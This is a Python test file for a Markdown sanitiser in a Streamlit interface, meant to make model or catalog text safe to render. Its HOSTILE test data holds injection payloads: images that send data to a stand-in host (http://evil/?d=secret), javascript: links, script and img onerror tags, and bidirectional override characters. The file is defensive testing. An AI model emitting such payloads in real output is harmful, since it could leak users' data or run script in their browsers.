"""Text of a model or the catalog stays text: read back by a Markdown parser, it holds nothing that loads or fakes.

The parser (of CommonMark, with tables) is the judge. What Streamlit adds to Markdown (formulas, directives, bare
addresses) is looked for in the text that is left outside code, where Streamlit would look for it too.
"""

import re
from dataclasses import dataclass

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from ui.safe import LONGEST, WORD_JOINER, plain, safe_label, safe_markdown

JUDGE = MarkdownIt("commonmark").enable("table").disable("text_join")
ESCAPED = "\ufffc"
"""Stands for a character that was escaped, and for code: it cannot be part of any mark."""
ACTIVE = {"image", "link_open", "html_inline", "html_block", "heading_open"}
FORMULA = re.compile(r"\$")
DIRECTIVE = re.compile(r":[\w+/-]*[:\[{]")
ADDRESS = re.compile(r"(?i)(?<![a-z])(?:https?|ftp)://\w|(?:^|(?<=[\s*_~(\[\]]))www\.\w", re.MULTILINE)
BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
CONTROLS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")

HOSTILE = {
    # prices, in all the forms that have become formulas somewhere
    "a price": "It costs $16.50.",
    "two prices": "$16.50 and $18.90",
    "currency after": "16.50$, 18.90$",
    "currency after, with a slash": "16.50$/18.90$",
    "price with a currency name": "$16.50 (US$) only",
    "thousands": "$5k$ to $6k",
    "doubled dollars": "$$16.50 and $$18.90",
    "three currencies": "costs $16.50 in A$, US$ or C$",
    "a real formula among prices": "It is $16.50 and $18.90, area $x^2$",
    "a display formula": "$$\n\\int_0^1 x\n$$",
    "an escaped dollar": "\\$x\\$",
    "a doubly escaped dollar": "\\\\$x\\\\$",
    "a formula in bold": "**$x$**",
    "a formula in a table": "| a | b |\n|---|---|\n| $x$ | $y$ |",
    "a formula in a list": "- $x$\n- $y$",
    # code spans that are none
    "backticks that do not match": "``$x$`",
    "backticks that do not match, other way": "`$x$``",
    "escaped backticks": "\\`$x$\\`",
    "escaped backticks around a badge": "\\`:green-badge[Paid]\\`",
    "a code span over two paragraphs": "`a\n\n$x$ :red[sold]\n\nb`",
    "a code span over two items": "- `a\n- $x$ b`",
    "a code span over two cells": "| `a | $x$ | b` |\n|---|---|---|\n| c | d | e |",
    "a badge between backticks that do not match": "``:green-badge[Paid]`",
    "an image in a fake code span": "\\`![x](http://evil/?d=1)\\`",
    "an image in a real code span": "`![x](http://evil/?d=1)`",
    "a fence that does not close": "```\n$x$ ![x](http://evil/)",
    "a fence": "```\n$x$ ![x](http://evil/)\n```",
    # images
    "an image": "![x](http://evil/?d=secret)",
    "an image by reference": "![x][y]\n\n[y]: http://evil/?d=secret",
    "an image by collapsed reference": "![y][]\n\n[y]: http://evil/",
    "an image by shortcut reference": "![y]\n\n[y]: http://evil/",
    "an image in a link": "[![x](http://evil/a)](http://evil/b)",
    "a link in an image": "![[x](http://evil/a)](http://evil/b)",
    "an image with a title": '![x](http://evil/ "title")',
    "an image with a bracketed address": "![x](<http://evil/a b>)",
    "an image after a backslash": "\\![x](http://evil/)",
    "an image with an escaped bracket": "!\\[x](http://evil/)",
    "an image over two lines": "![x\ny](http://evil/)",
    "three marks and an image": "!!![x](http://evil/)",
    # links
    "a link": "[free books](http://evil/)",
    "a link by reference": "[free books][y]\n\n[y]: http://evil/",
    "a link by shortcut reference": "[y]\n\n[y]: http://evil/",
    "a definition with an odd name": "[a\\]b]: http://evil/\n\n[a\\]b]",
    "a link that runs code": "[x](javascript:alert(1))",
    "a link in angle brackets": "<http://evil/>",
    "a mail address in angle brackets": "<evil@evil.example>",
    "a bare address": "See http://evil.example/free now",
    "a bare address without a protocol": "See www.evil.example now",
    "a bare address in italics": "_www.evil.example_",
    "a bare address after a digit": "1https://evil.example/",
    "a bare address after an underscore": "_https://evil.example/_",
    "a bare address in brackets": "(www.evil.example)",
    "an address in capitals": "HTTPS://EVIL.EXAMPLE",
    # directives
    "a colour": ":red[sold out]",
    "a colour behind": ":red-background[sold out]",
    "a badge": ":green-badge[Paid]",
    "a badge after a word": "Order:green-badge[Paid]",
    "a rainbow": ":rainbow[look]",
    "a free colour": ":color[white]{background=white}",
    "an icon": ":material/check:",
    "an emoji": ":smile: and :streamlit:",
    "a directive that swallows text": "Dune:part[2] at 10:30[pm]",
    "an escaped directive": "\\:red[x]",
    "a doubly escaped directive": "\\\\:red[x]",
    "a leaf directive": "::youtube[x]{#id}",
    "a container": ":::note[x]\ntext\n:::",
    "a shimmer": ":shimmer[thinking]",
    # headings
    "a heading": "# SOLD OUT",
    "a small heading": "###### sold out",
    "a heading in a quotation": "> # SOLD OUT",
    "a heading in a list": "- # SOLD OUT",
    "a heading in a numbered list": "1. # SOLD OUT",
    "an underlined heading": "SOLD OUT\n===",
    "an underlined smaller heading": "SOLD OUT\n---",
    "a heading after a tab": "#\tSOLD OUT",
    # markup of pages
    "a script": "<script>alert(1)</script>",
    "an image of HTML": "<img src=http://evil/ onerror=alert(1)>",
    "a comment": "<!-- hidden -->",
    "an iframe": "<iframe src='http://evil/'></iframe>",
    "a style": "<style>*{display:none}</style>",
    "an entity": "&#60;b&#62; &dollar;x&dollar;",
    "a half tag": "a < b <c",
    # marks that cannot be seen
    "direction overrides": "price \u202e05.61$\u202c",
    "isolates": "\u2066x\u2069 \u2067y\u2069 \u2068z\u2069",
    "direction marks": "\u200ea\u200fb",
    "the Arabic letter mark": "a\u061cb",
    "a byte order mark": "\ufeffhello",
    "control characters": "a\x00b\x07c\x1b[31md\x7fe\x0cf",
    "half a character": "a\ud83db",
    "the other half": "\udc00",
    "nothing": "",
    "white space": " \n\t ",
}


@dataclass(frozen=True)
class Read:
    """What a text comes to: the active parts in it, and the text outside of code."""

    active: set[str]
    bare: str
    shown: str


def read(markdown: str) -> Read:
    """Read Markdown as a page would."""
    tokens = list(_all(JUDGE.parse(markdown)))
    bare = "".join(_bare(token) for token in tokens)
    shown = "".join(
        "\n" if token.type in ("softbreak", "hardbreak") else token.content
        for token in tokens
        if token.type in ("text", "text_special", "code_inline", "fence", "code_block", "softbreak", "hardbreak")
    )
    return Read({token.type for token in tokens} & ACTIVE, bare, shown.replace(WORD_JOINER, ""))


def _all(tokens: list[Token]) -> list[Token]:
    return [part for token in tokens for part in (token, *_all(token.children or []))]


def _bare(token: Token) -> str:
    match token.type:
        case "text":
            return token.content
        case "text_special" | "code_inline":
            return ESCAPED
        case "paragraph_close" | "softbreak" | "hardbreak" | "td_close" | "th_close":
            return "\n"
        case _:
            return ""


def assert_harmless(markdown: str) -> None:
    found = read(markdown)
    assert not found.active
    assert not FORMULA.search(found.bare), found.bare
    assert not DIRECTIVE.search(found.bare), found.bare
    assert not ADDRESS.search(found.bare), found.bare
    assert not BIDI.search(markdown)
    assert not CONTROLS.search(markdown)
    markdown.encode()


PIECES = [
    *[
        "$",
        "$$",
        "\\",
        "`",
        "``",
        "```",
        "!",
        "[",
        "]",
        "(",
        ")",
        ":",
        "{",
        "}",
        "<",
        ">",
        "|",
        "#",
        "=",
        "-",
        "*",
    ],
    *["_", "\n", "\n\n", " ", "    ", "\t", "x", "1. ", "- ", "> ", "red[", "http://evil/", "www.evil", "a", "&"],
    *[":red[x]", "$x$", "![x](y)", "[x]: y", "---", "~~~", WORD_JOINER, "\u202e", "\ud83d", "\x00"],
]
MEAN = st.lists(st.sampled_from(PIECES), max_size=14).map("".join)
WORDS = st.text(
    st.characters(categories=["L", "Nd"], include_characters=" ,.'éß漢字عربי"), min_size=1, max_size=60
)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_is_harmless_as_an_answer(text: str) -> None:
    assert_harmless(safe_markdown(text))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_is_harmless_as_a_label(text: str) -> None:
    label = safe_label(text)
    assert_harmless(label)
    assert "\n" not in label
    assert not {token.type for token in _all(JUDGE.parse(label))} & {"strong_open", "em_open", "code_inline"}


@given(MEAN)
@example("``$x$`")
def test_no_mixture_of_marks_is_harmful_as_an_answer(text: str) -> None:
    assert_harmless(safe_markdown(text))


@given(MEAN)
def test_no_mixture_of_marks_is_harmful_as_a_label(text: str) -> None:
    assert_harmless(safe_label(text))


@given(st.text())
def test_any_text_at_all_can_be_shown(text: str) -> None:
    for shown in (safe_markdown(text), safe_label(text), plain(text)):
        shown.encode()


@pytest.mark.parametrize(
    "text",
    [
        "The Quiet Orchard costs $16.50, two are $33.00.",
        "Prices: $5, 16.50$ and US$ 4.",
        "a < b, c > d, e & f",
        "3 * 4 is 12; 50 % off!",
        "What? At 10:30, or at 11:45: both work.",
        "Dune:part[2]",
        "「月面第七郵便局」は 12.80 ドルです。",
        "بستان الليمون البعيد بسعر 12.90",
        "C++ by the Fireside (3rd ed.) [signed]",
        "Ends with a hash #",
        "naïve café, “quotes” – dashes",
        "👩‍🚀 family 👨‍👩‍👧",
    ],
)
def test_an_answer_reads_as_it_was_written(text: str) -> None:
    assert read(safe_markdown(text)).shown == text
    assert read(safe_label(text)).shown == text


@given(WORDS)
def test_plain_words_are_left_as_they_are(text: str) -> None:
    assert safe_markdown(text).replace(WORD_JOINER, "") == text
    assert safe_label(text).replace(WORD_JOINER, "") == " ".join(text.split())


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        ("**bold** and *thin*", {"strong_open", "em_open"}),
        ("- one\n- two", {"bullet_list_open"}),
        ("1. one\n2. two", {"ordered_list_open"}),
        ("| a | b |\n|---|---|\n| 1 | 2 |", {"table_open"}),
        ("> said", {"blockquote_open"}),
    ],
)
def test_bold_lists_and_tables_of_an_answer_stay(text: str, kinds: set[str]) -> None:
    assert kinds <= {token.type for token in _all(JUDGE.parse(safe_markdown(text)))}


@given(st.text(max_size=40), st.integers(1, 30))
def test_the_length_is_capped_once_and_for_all(text: str, limit: int) -> None:
    cut = plain(text, limit)
    assert len(cut) <= limit
    assert plain(cut, limit) == cut


def test_what_was_cut_shows_a_mark() -> None:
    assert plain("x" * 10, 10) == "x" * 10
    assert plain("x" * 11, 10) == "x" * 9 + "…"
    assert safe_label("word " * 100).endswith("…")
    assert len(safe_markdown("x" * 100_000)) == LONGEST


def test_a_label_is_one_line() -> None:
    assert safe_label("  one\n\n two\tthree ") == "one two three"
